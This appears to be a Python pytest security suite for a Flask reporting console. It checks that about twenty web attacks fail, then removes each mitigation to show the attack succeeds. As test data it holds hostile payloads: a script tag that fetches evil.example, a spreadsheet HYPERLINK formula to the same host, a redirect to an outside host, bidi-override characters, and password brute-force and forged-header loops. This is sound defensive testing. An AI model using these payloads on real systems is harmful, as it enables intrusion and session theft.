"""Attacks on the console: another district, another site, another's session, hostile words."""

import re
from datetime import timedelta

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import true

import hotline.app
from console import content_policy, csv_cells, guard, harmless, scope
from hotline.people import sessions
from tests.attacks.attack import Attack, each
from tests.attacks.conftest import NORTH, SOUTH
from tests.support.console import (
    World,
    leave_message,
    send,
    sign_in,
)

SCRIPT = "hi <script>fetch('https://evil.example/')</script>"
FORMULA = '=HYPERLINK("https://evil.example/","x")'
EVIL = "//evil.example/in"


def browser(world: World, name: str = "ana") -> FlaskClient:
    """Somebody's browser, signed in."""
    client = world.app().test_client()
    assert sign_in(client, name).status_code == 303
    return client


def token_of(client: FlaskClient, world: World) -> str:
    """The session token that a browser holds."""
    cookie = client.get_cookie(guard.cookie_name(world.runtime.settings))
    return cookie.value if cookie is not None else ""


def thief(world: World, token: str) -> FlaskClient:
    """Another browser, with a token that is not its own."""
    client = world.app().test_client()
    client.set_cookie(guard.cookie_name(world.runtime.settings), token)
    return client


def another_district(world: World) -> bool:
    """A supervisor opens a report of another district by its id."""
    report = leave_message(world, district=SOUTH)
    return browser(world).get(f"/reports/{report}").status_code == 200


def another_site(world: World) -> bool:
    """A page elsewhere posts a form with the supervisor's cookie."""
    report = leave_message(world, district=NORTH)
    answer = browser(world).post(
        f"/reports/{report}/reviewed", headers={"Sec-Fetch-Site": "cross-site"}
    )
    return answer.status_code != 403


def fixed_session(world: World) -> bool:
    """Somebody plants a token before the victim signs in, and uses it afterwards."""
    planted = "planted-before-the-sign-in-0123456789abcdef"
    victim = thief(world, planted)
    sign_in(victim)
    return thief(world, planted).get("/reports").status_code == 200


def after_sign_out(world: World) -> bool:
    """A token that was copied is used after its owner has signed out."""
    victim = browser(world)
    copied = token_of(victim, world)
    send(victim, "/sign-out")
    return thief(world, copied).get("/reports").status_code == 200


def left_open(world: World) -> bool:
    """A screen is found an hour after its owner has left it."""
    victim = browser(world)
    world.pass_s(3600)
    return victim.get("/reports").status_code == 200


def kept_alive(world: World) -> bool:
    """A stolen token is used every ten minutes, for a night."""
    victim = browser(world)
    stolen = thief(world, token_of(victim, world))
    for _ in range(9 * 6):
        world.pass_s(600)
        stolen.get("/reports")
    return stolen.get("/reports").status_code == 200


def script_in_words(world: World) -> bool:
    """Words that are markup are shown to a supervisor as markup."""
    report = leave_message(world, text=SCRIPT, district=NORTH)
    client = browser(world)
    pages = [client.get(path).text for path in (f"/reports/{report}", "/reports?show=all")]
    return any("<script>fetch" in page for page in pages)


def formula_in_export(world: World) -> bool:
    """A name that is a formula is computed by the auditor's spreadsheet."""
    cells = csv_cells.line(["1", FORMULA])
    return cells.split(",", 1)[1].startswith(('"=', "="))


def formula_after_nothing(world: World) -> bool:
    """The formula stands behind a character that a spreadsheet passes over, or is full-width."""
    cells = [csv_cells.line([text]) for text in ("\0=1+1", " =1+1", "\uff1d1+1")]
    return any(not cell.lstrip('"').startswith("'") for cell in cells)


def turned_around(world: World) -> bool:
    """An override of the direction turns the line around: other words are read than were said."""
    report = leave_message(world, text="he said \u202etxet\u2066 and \x1b left", district=NORTH)
    client = browser(world)
    pages = [client.get(path).text for path in (f"/reports/{report}", "/reports?show=all")]
    return any(acting in page for page in pages for acting in "\u202e\u2066\x1b")


def led_elsewhere(world: World) -> bool:
    """A link to the sign-in page leads to another site after the password."""
    client = world.app().test_client()
    answer = client.post(
        "/sign-in",
        data={"name": "ana", "password": "seven calm grey herons", "next": EVIL},
        headers={"Sec-Fetch-Site": "same-origin"},
    )
    return "evil.example" in (answer.location or "")


def framed(world: World) -> bool:
    """The board is shown inside a page of somebody else, who lets the supervisor click."""
    policy = browser(world).get("/board").headers.get("Content-Security-Policy", "")
    return "frame-ancestors 'none'" not in policy


def script_from_elsewhere(world: World) -> bool:
    """Markup that got in after all may load a script or call home."""
    policy = browser(world).get("/board").headers.get("Content-Security-Policy", "")
    return "default-src 'none'" not in policy or bool(re.search("unsafe|https?:|\\*", policy))


def read_from_the_cache(world: World) -> bool:
    """The next user of a shared computer presses Back."""
    return "no-store" not in browser(world).get("/reports").headers.get("Cache-Control", "")


def leaked_by_links(world: World) -> bool:
    """A page elsewhere learns the address of the report that led to it."""
    return browser(world).get("/board").headers.get("Referrer-Policy") != "no-referrer"


def window_of_another(world: World) -> bool:
    """A page elsewhere opens the console and holds on to its window."""
    headers = browser(world).get("/board").headers
    return headers.get("Cross-Origin-Opener-Policy") != "same-origin"


def not_apart(world: World) -> bool:
    """A page elsewhere shares the process of the console, and reads its memory by timing."""
    headers = browser(world).get("/board").headers
    return headers.get("Cross-Origin-Embedder-Policy") != "require-corp"


def embedded(world: World) -> bool:
    """A page elsewhere loads a recording as its own sound."""
    headers = browser(world).get("/board").headers
    return headers.get("Cross-Origin-Resource-Policy") != "same-origin"


def cookie_by_script(world: World) -> bool:
    """A script reads the session's token; another site's request carries it."""
    said = sign_in(world.app().test_client()).headers["Set-Cookie"]
    return "HttpOnly" not in said or "SameSite=Strict" not in said


def guess_a_password(world: World) -> bool:
    """Two hundred passwords are tried within a minute."""
    client = world.app().test_client()
    tried = sum(sign_in(client, "ana", f"wrong {n}").status_code == 401 for n in range(200))
    return tried == 200


def keep_a_colleague_out(world: World) -> bool:
    """A stranger hammers on a colleague's name, who comes with a new browser meanwhile."""
    form, own = {"name": "ana", "password": "wrong"}, {"Sec-Fetch-Site": "same-origin"}
    client = world.app().test_client()
    for _ in range(60):
        world.pass_s(1)
        client.post("/sign-in", data=form, headers=own, environ_base={"REMOTE_ADDR": "192.0.2.7"})
    answer = (
        world.app()
        .test_client()
        .post(
            "/sign-in",
            data=form | {"password": "seven calm grey herons"},
            headers=own,
            environ_base={"REMOTE_ADDR": "198.51.100.9"},
        )
    )
    return answer.status_code == 429


def many_addresses(world: World) -> bool:
    """Two hundred passwords are tried, each with another address in a header."""
    form, own = {"name": "ana", "password": "wrong"}, {"Sec-Fetch-Site": "same-origin"}
    client = world.app().test_client()
    tried = 0
    for n in range(200):
        said = {"X-Forwarded-For": f"198.51.{n}.9"}
        at = {"REMOTE_ADDR": "192.0.2.7"}
        answer = client.post("/sign-in", data=form, headers=own | said, environ_base=at)
        tried += answer.status_code == 401
    return tried > 100


# --- what takes a mitigation away ------------------------------------------------------------


def all_are_visible(patch: pytest.MonkeyPatch) -> None:
    patch.setattr(scope, "visible", lambda account: true())


def from_anywhere(patch: pytest.MonkeyPatch) -> None:
    patch.setattr(guard, "_from_our_own_page", lambda: True)


def token_is_kept(patch: pytest.MonkeyPatch) -> None:
    """Sign-in goes on with the token that the browser brought."""
    real = sessions.secrets.token_urlsafe

    def token(size: int | None = None) -> str:
        from flask import has_request_context

        return (guard.token() if has_request_context() else "") or real(size)

    patch.setattr(sessions.secrets, "token_urlsafe", token)


def nothing_ends(patch: pytest.MonkeyPatch) -> None:
    patch.setattr(sessions, "end", lambda session, token, now: None)


def no_idle_limit(patch: pytest.MonkeyPatch) -> None:
    patch.setattr(sessions, "IDLE", timedelta(days=1))


def no_absolute_limit(patch: pytest.MonkeyPatch) -> None:
    patch.setattr(sessions, "ABSOLUTE", timedelta(days=9))


def no_escape(patch: pytest.MonkeyPatch) -> None:
    patch.setattr(Flask, "select_jinja_autoescape", lambda self, filename: False)


def cells_as_they_are(patch: pytest.MonkeyPatch) -> None:
    patch.setattr(csv_cells, "text", lambda cell: cell)


def characters_act(patch: pytest.MonkeyPatch) -> None:
    patch.setattr(harmless, "text", lambda said: said)


def any_path(patch: pytest.MonkeyPatch) -> None:
    patch.setattr(guard, "own_path", lambda path: path)


def no_policy(patch: pytest.MonkeyPatch) -> None:
    patch.setattr(content_policy, "POLICY", "img-src *")
    patch.setattr(hotline.app, "HEADERS", {})


def no_headers(patch: pytest.MonkeyPatch) -> None:
    patch.setattr(hotline.app, "HEADERS", {})


def cacheable(patch: pytest.MonkeyPatch) -> None:
    patch.setattr(guard, "_keep_out_of_caches", lambda response: response)


def open_cookie(patch: pytest.MonkeyPatch) -> None:
    def put(response: object, value: str) -> None:
        response.set_cookie("hotline", value)  # type: ignore[attr-defined]

    patch.setattr(guard, "set_token", put)


def no_delay(patch: pytest.MonkeyPatch) -> None:
    from hotline.people import delays

    patch.setattr(delays, "delay_s", lambda failures, key: 0.0)


def sources_are_unknown(patch: pytest.MonkeyPatch) -> None:
    from hotline.people import delays

    patch.setattr(delays, "network_of", lambda address: "")


def header_is_believed(patch: pytest.MonkeyPatch) -> None:
    real = hotline.app._believe_proxies
    patch.setattr(hotline.app, "_believe_proxies", lambda app, count: real(app, 1))


ATTACKS = [
    Attack("another_district", another_district, all_are_visible),
    Attack("another_site", another_site, from_anywhere),
    Attack("fixed_session", fixed_session, token_is_kept),
    Attack("after_sign_out", after_sign_out, nothing_ends),
    Attack("left_open", left_open, no_idle_limit),
    Attack("kept_alive", kept_alive, no_absolute_limit),
    Attack("script_in_words", script_in_words, no_escape),
    Attack("formula_in_export", formula_in_export, cells_as_they_are),
    Attack("formula_after_nothing", formula_after_nothing, cells_as_they_are),
    Attack("turned_around", turned_around, characters_act),
    Attack("not_apart", not_apart, no_headers),
    Attack("led_elsewhere", led_elsewhere, any_path),
    Attack("framed", framed, no_policy),
    Attack("script_from_elsewhere", script_from_elsewhere, no_policy),
    Attack("read_from_the_cache", read_from_the_cache, cacheable),
    Attack("leaked_by_links", leaked_by_links, no_headers),
    Attack("window_of_another", window_of_another, no_headers),
    Attack("embedded", embedded, no_headers),
    Attack("cookie_by_script", cookie_by_script, open_cookie),
    Attack("keep_a_colleague_out", keep_a_colleague_out, sources_are_unknown),
    Attack("many_addresses", many_addresses, header_is_believed),
    Attack("guess_a_password", guess_a_password, no_delay),
]


@each(ATTACKS)
def test_it_fails(world: World, attack: Attack[World]) -> None:
    assert not attack.does(world)


@each(ATTACKS)
def test_it_succeeds_without_the_mitigation(
    world: World, monkeypatch: pytest.MonkeyPatch, attack: Attack[World]
) -> None:
    attack.without(monkeypatch)
    assert attack.does(world)
